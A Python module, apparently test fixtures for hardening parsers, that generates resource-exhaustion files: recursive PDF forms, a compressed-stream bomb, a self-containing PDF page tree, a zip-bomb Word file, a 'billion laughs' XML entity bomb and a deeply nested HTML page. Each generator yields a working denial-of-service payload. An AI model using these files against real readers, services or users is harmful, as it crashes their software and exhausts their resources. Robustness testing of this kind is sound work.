"""Small files that grow without end, or turn in a circle, when they are read."""

import zipfile
import zlib
from io import BytesIO


def form_bomb():
    """A PDF of 40 drawings, each of which draws the next twice: 2^40 in all."""
    forms = [_form(b"/F Do /F Do", b"<< /XObject << /F %d 0 R >> >>" % number) for number in range(6, 46)]
    page = _page(b"<< /XObject << /F 5 0 R >> >>")
    return _pdf(_pages(b"3 0 R"), page, _stream(b"/F Do"), *forms, _form(b"0 0 m 9 9 l S", b"<< >>"))


def stream_bomb():
    """A PDF whose page is 560 MB of lines, packed to one."""
    packed = zlib.compress(b"0 0 m 9 9 l S\n" * 40_000_000, 9)
    return _pdf(_pages(b"3 0 R"), _page(b"<< >>"), _stream(packed, b"/Filter /FlateDecode "))


def page_loop():
    """A PDF whose tree of pages bears itself."""
    return _pdf(_pages(b"3 0 R"), b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 2 0 R] /Count 2 >>")


def zip_bomb():
    """A Word file that unpacks to a thousand times its size."""
    return _word(b" " * 60_000_000)


def entity_bomb():
    """A Word file with a word that stands for ten that stand for ten, and so on: 10^9 in all."""
    entities = [b'<!ENTITY a0 "word">']
    entities += [b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)]
    return _word(b"<!DOCTYPE w [%s]><w>&a9;</w>" % b"".join(entities))


def font_bomb():
    """A web page of paragraphs each of which opens the types of all before it once more: 2 * 10^8 elements."""
    return b"<!DOCTYPE html>" + b"".join(b"<p><font color=#%06x>t" % number for number in range(20_000))


BOMBS = {
    "font-bomb.html": font_bomb,
    "form-bomb.pdf": form_bomb,
    "stream-bomb.pdf": stream_bomb,
    "page-loop.pdf": page_loop,
    "zip-bomb.docx": zip_bomb,
    "entity-bomb.docx": entity_bomb,
}


def _word(document):
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as parts:
        parts.writestr("word/document.xml", document)
    return file.getvalue()


def _pages(kids):
    return b"<< /Type /Pages /Kids [%s] /Count 1 >>" % kids


def _page(resources):
    return (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Resources %s /Contents 4 0 R >>" % resources
    )


def _form(drawing, resources):
    return _stream(drawing, b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources %s " % resources)


def _stream(content, head=b""):
    return b"<< %s/Length %d >>\nstream\n%s\nendstream" % (head, len(content), content)


def _pdf(*objects):
    """A PDF of a catalogue and these objects, the first of which, number 2, is the tree of pages."""
    out = b"%PDF-1.7\n"
    offsets = []
    for number, content in enumerate((b"<< /Type /Catalog /Pages 2 0 R >>", *objects), start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(offsets) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        out.rindex(b"xref"),
    )
